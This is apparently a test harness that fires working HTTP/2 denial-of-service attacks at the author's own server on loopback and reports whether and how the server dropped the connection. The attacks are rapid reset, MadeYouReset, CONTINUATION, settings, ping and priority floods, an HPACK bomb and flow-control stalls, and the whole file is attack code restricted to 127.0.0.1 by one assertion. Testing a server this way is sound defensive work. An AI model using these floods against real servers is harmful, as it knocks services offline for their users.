"""Attacks one HTTP/2 server of ours on loopback, once, and says what became of the connection.

    h2_attack.py HOST PORT ATTACK

Prints one line of JSON: `ended` (the server ended the connection), `seconds` (from the first byte of the attack to that
end), `goaway` (its error code), `answers` (answers that began), `resets` (streams that the server reset), `sent`
(bytes). Bounded: ten seconds, or SECONDS as a fourth argument, and the frames of the attack. Loopback only.
"""

import itertools
import json
import select
import socket
import ssl
import struct
import sys
import time

import h2.connection
import h2.config
from hpack import Encoder
from hyperframe import frame as frames

HOST, PORT, ATTACK = sys.argv[1], int(sys.argv[2]), sys.argv[3]
LIMIT = float(sys.argv[4]) if len(sys.argv) > 4 else 10.0
assert HOST in ("127.0.0.1", "::1"), "loopback only"


def fields(path, method="GET", extra=()):
    return [(":method", method), (":scheme", "https"), (":path", path), (":authority", "plain.test"), *extra]


def raw(kind, flags, stream, payload=b""):
    """A frame that hyperframe would refuse to write."""
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def headers(stream, path, method="GET", end_stream=True, end_headers=True, extra=()):
    head = frames.HeadersFrame(stream, data=Encoder().encode(fields(path, method, extra)))
    if end_stream:
        head.flags.add("END_STREAM")
    if end_headers:
        head.flags.add("END_HEADERS")
    return head.serialize()


def streams(count):
    return range(1, 2 * count, 2)


# Each attack yields pieces of bytes; a number among them is a pause in seconds.


def rapid_reset():
    """CVE-2023-44487: ten thousand requests, each given up at once."""
    for stream in streams(10_000):
        yield headers(stream, "/rapid_reset") + frames.RstStreamFrame(stream, error_code=8).serialize()


def rapid_reset_dripped():
    """The same, slow enough that each request is on its way before it is given up."""
    for stream in streams(2000):
        yield headers(stream, "/rapid_reset_dripped")
        yield 0.002
        yield frames.RstStreamFrame(stream, error_code=8).serialize()


def made_you_reset():
    """CVE-2025-8671: the server is made to reset: an increment of nothing."""
    for stream in streams(2000):
        yield headers(stream, "/made_you_reset") + raw(8, 0, stream, bytes(4))
        yield 0.002


def made_you_reset_by_overflow():
    """The same by windows that grow too large."""
    for stream in streams(2000):
        update = frames.WindowUpdateFrame(stream, window_increment=2**31 - 1).serialize()
        yield headers(stream, "/made_you_reset_by_overflow") + update
        yield 0.002


def made_you_reset_by_data():
    """The same by a body on a stream that the client has ended."""
    for stream in streams(2000):
        yield headers(stream, "/made_you_reset_by_data") + frames.DataFrame(stream, b"x").serialize()
        yield 0.002


def too_many_streams():
    """Requests beyond what the server allows at once."""
    for stream in streams(5000):
        yield headers(stream, "/stall")


def continuation_flood():
    """CVE-2024-27316: a head without an end, in small pieces."""
    yield headers(1, "/continuation_flood", end_headers=False)
    piece = frames.ContinuationFrame(1, data=Encoder().encode([("x", "y" * 20)])).serialize()
    for _ in range(200_000):
        yield piece


def continuation_flood_large():
    """The same in the largest pieces."""
    yield headers(1, "/continuation_flood_large", end_headers=False)
    piece = frames.ContinuationFrame(1, data=b"\x00\x01x\x7f\xa1\x7c" + b"y" * 16_032).serialize()
    for _ in range(2000):
        yield piece


def continuation_flood_empty():
    """The same in pieces of nothing."""
    yield headers(1, "/continuation_flood_empty", end_headers=False)
    for _ in range(20_000):
        yield frames.ContinuationFrame(1).serialize() * 10


def settings_flood():
    """CVE-2019-9515."""
    for n in range(20_000):
        yield frames.SettingsFrame(0, settings={frames.SettingsFrame.HEADER_TABLE_SIZE: 4096 + n % 2}).serialize()


def ping_flood():
    """CVE-2019-9512."""
    for n in range(20_000):
        yield frames.PingFrame(0, opaque_data=struct.pack(">Q", n)).serialize()


def priority_flood():
    """CVE-2019-9513."""
    for n in range(50_000):
        yield frames.PriorityFrame(2 * (n % 50) + 1, depends_on=2 * ((n + 7) % 50) + 1).serialize()


def window_update_flood():
    for _ in range(50_000):
        yield frames.WindowUpdateFrame(0, window_increment=1).serialize()


def empty_data_flood():
    """CVE-2019-9518."""
    yield headers(1, "/empty_data_flood", "POST", end_stream=False)
    for _ in range(5000):
        yield frames.DataFrame(1).serialize() * 10


def padded_data_flood():
    """The same with padding."""
    yield headers(1, "/padded_data_flood", "POST", end_stream=False)
    padded = frames.DataFrame(1, pad_length=0)
    padded.flags.add("PADDED")
    for _ in range(5000):
        yield padded.serialize() * 10


def unknown_flood():
    for _ in range(50_000):
        yield raw(0xBB, 0, 0, b"?")


def data_dribble():
    """CVE-2019-9511: an answer that may come one byte at a time."""
    window = frames.SettingsFrame(0, settings={frames.SettingsFrame.INITIAL_WINDOW_SIZE: 1})
    yield window.serialize() + headers(1, "/big")
    for _ in range(50_000):
        yield frames.WindowUpdateFrame(1, window_increment=1).serialize()


def hpack_bomb():
    """One large entry, then sixteen thousand references to it, on a hundred streams."""
    encoder = Encoder()
    first = encoder.encode(fields("/hpack_bomb", extra=[("x-bomb", "b" * 3900)]))
    yield raw(1, 5, 1, first)
    # The newest entry of the dynamic table is number 62.
    for stream in streams(100)[1:]:
        yield raw(1, 5, stream, b"\x82\x87\x84\x01\x0aplain.test" + b"\xbe" * 16_000)


def hpack_table_updates():
    """A head of nothing but changes of the table's size."""
    for stream in streams(200):
        yield raw(1, 5, stream, b"\x20\x3f\xe1\x1f" * 4000)


def window_stall():
    """A hundred large answers, and no window for any of them."""
    window = frames.SettingsFrame(0, settings={frames.SettingsFrame.INITIAL_WINDOW_SIZE: 0})
    yield window.serialize()
    for stream in streams(100):
        yield headers(stream, "/big")


def window_stall_of_one():
    """The same, with a window on each stream that the connection's takes back."""
    window = frames.SettingsFrame(0, settings={frames.SettingsFrame.INITIAL_WINDOW_SIZE: 2**31 - 1})
    yield window.serialize()
    for stream in streams(100):
        yield headers(stream, "/big")


def read_stall():
    """A hundred large answers with all the windows in the world, and a client that reads nothing."""
    window = frames.SettingsFrame(0, settings={frames.SettingsFrame.INITIAL_WINDOW_SIZE: 2**31 - 1})
    yield window.serialize() + frames.WindowUpdateFrame(0, window_increment=2**30).serialize()
    for stream in streams(100):
        yield headers(stream, "/big")


def body_stall():
    """A hundred uploads that never go on."""
    for stream in streams(100):
        yield headers(stream, "/body_stall", "POST", end_stream=False, extra=[("content-length", "1000")])
        yield frames.DataFrame(stream, b"x").serialize()


class Reader:
    """Takes the frames of the server apart."""

    def __init__(self):
        self.data = b""
        self.goaway = None
        self.answers = 0
        self.resets = 0

    def feed(self, data):
        self.data += data
        while len(self.data) >= 9:
            length = int.from_bytes(self.data[:3], "big")
            if len(self.data) < 9 + length:
                return
            kind, payload = self.data[3], self.data[9 : 9 + length]
            self.data = self.data[9 + length :]
            if kind == 7:
                self.goaway = int.from_bytes(payload[4:8], "big")
            elif kind == 1:
                self.answers += 1
            elif kind == 3:
                self.resets += 1


def connect():
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    context.check_hostname = False
    context.verify_mode = ssl.CERT_NONE
    context.set_alpn_protocols(["h2"])
    tcp = socket.create_connection((HOST, PORT), timeout=10)
    if ATTACK == "read_stall":
        tcp.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
    tls = context.wrap_socket(tcp, server_hostname="plain.test")
    assert tls.selected_alpn_protocol() == "h2"
    return tls


def main():
    tls = connect()
    # The handshake of the library: what follows is a good client's connection until the attack begins.
    client = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True))
    client.initiate_connection()
    tls.sendall(client.data_to_send())
    tls.setblocking(False)
    reader = Reader()
    attack = globals()[ATTACK]()
    reads = ATTACK != "read_stall"
    pending, sent, wait_until, done = b"", 0, 0.0, False
    begun = time.monotonic()
    ended = False
    while time.monotonic() - begun < LIMIT:
        now = time.monotonic()
        if not pending and not done and now >= wait_until:
            pieces = []
            for piece in itertools.islice(attack, 64):
                if isinstance(piece, float):
                    wait_until = now + piece
                    break
                pieces.append(piece)
            else:
                done = not pieces
            pending = b"".join(pieces)
        timeout = max(0.0, min(0.05, wait_until - now)) if not pending and not done else 0.05
        readable, writable, _ = select.select([tls] if reads else [], [tls] if pending else [], [], timeout)
        try:
            if readable or (reads and tls.pending()):
                data = tls.recv(65_536)
                if not data:
                    ended = True
                    break
                reader.feed(data)
        except (ssl.SSLWantReadError, ssl.SSLWantWriteError):
            pass
        except OSError:
            ended = True
            break
        try:
            if writable:
                count = tls.send(pending)
                sent += count
                pending = pending[count:]
        except (ssl.SSLWantReadError, ssl.SSLWantWriteError):
            pass
        except OSError:
            # The farewell may still be on its way here.
            pending, done = b"", True
            if not reads:
                ended = True
                break
    result = {
        "ended": ended,
        "seconds": round(time.monotonic() - begun, 3),
        "goaway": reader.goaway,
        "answers": reader.answers,
        "resets": reader.resets,
        "sent": sent,
    }
    print(json.dumps(result))


main()
